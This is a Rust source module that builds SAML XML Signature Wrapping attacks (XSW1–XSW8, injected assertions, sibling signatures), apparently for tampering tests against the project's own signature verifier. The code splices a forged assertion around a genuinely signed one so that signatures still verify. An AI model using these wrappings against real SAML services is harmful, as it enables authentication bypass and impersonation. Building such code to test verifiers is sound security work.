//! The eight classic signature wrappings, and their relatives.
//!
//! Each leaves the signed element whole and somewhere in the message, so that a signature still verifies, and puts
//! another where a careless reader looks (Somorovsky and others, "On Breaking SAML", 2012; numbered as SAML Raider
//! does). Called by `tamper`.

use std::ops::Range;

use super::message::{Message, write_assertion, write_response};
use super::mischief::SamlMischief;
use crate::identity::xmldsig::{ASSERTION, DSIG, Kind, Node, only, parse};

/// The wrapped message; nothing when the mischief wraps nothing, or the message has not what would be wrapped.
pub(super) fn wrap(xml: &str, evil: &Message, mischief: SamlMischief) -> Option<String> {
    let tree = parse(xml, Kind::Message).ok()?;
    let root = tree.root_element();
    let another = write_assertion(&evil.assertion);
    match mischief {
        SamlMischief::Xsw1 | SamlMischief::Xsw2 => {
            let (bare, signature) = apart(xml, root)?;
            let around = write_response(evil, &another);
            Some(if mischief == SamlMischief::Xsw1 {
                behind_issuer(&around, &within_signature(&signature, &bare))
            } else {
                behind_issuer(&around, &format!("{bare}{signature}"))
            })
        }
        SamlMischief::InjectedAssertion => {
            let genuine = only(root, ASSERTION, "Assertion").ok()??.range();
            Some(format!("{}{another}{}", &xml[..genuine.start], &xml[genuine.start..]))
        }
        _ => {
            let assertion = only(root, ASSERTION, "Assertion").ok()??;
            let signed = &xml[assertion.range()];
            let (bare, signature) = apart(xml, assertion)?;
            let instead = match mischief {
                SamlMischief::Xsw3 => format!("{another}{signed}"),
                SamlMischief::Xsw4 => another.replace("</saml:Assertion>", &format!("{signed}</saml:Assertion>")),
                SamlMischief::Xsw5 => format!("{}{bare}", behind_issuer(&another, &signature)),
                SamlMischief::Xsw6 => behind_issuer(&another, &within_signature(&signature, &bare)),
                SamlMischief::Xsw7 => format!("<samlp:Extensions>{another}</samlp:Extensions>{signed}"),
                SamlMischief::Xsw8 => {
                    let object = format!("<ds:Object>{bare}</ds:Object>");
                    behind_issuer(&another, &within_signature(&signature, &object))
                }
                SamlMischief::SiblingSignature => format!("{signature}{bare}"),
                _ => return None,
            };
            let place = assertion.range();
            Some(format!("{}{instead}{}", &xml[..place.start], &xml[place.end..]))
        }
    }
}

/// An element without its signature, and the signature.
fn apart(xml: &str, element: Node<'_>) -> Option<(String, String)> {
    let whole = element.range();
    let Range { start, end } = only(element, DSIG, "Signature").ok()??.range();
    let bare = format!("{}{}", &xml[whole.start..start], &xml[end..whole.end]);
    Some((bare, xml[start..end].to_owned()))
}

fn behind_issuer(text: &str, what: &str) -> String {
    text.replacen("</saml:Issuer>", &format!("</saml:Issuer>{what}"), 1)
}

fn within_signature(signature: &str, what: &str) -> String {
    signature.replacen("</ds:Signature>", &format!("{what}</ds:Signature>"), 1)
}
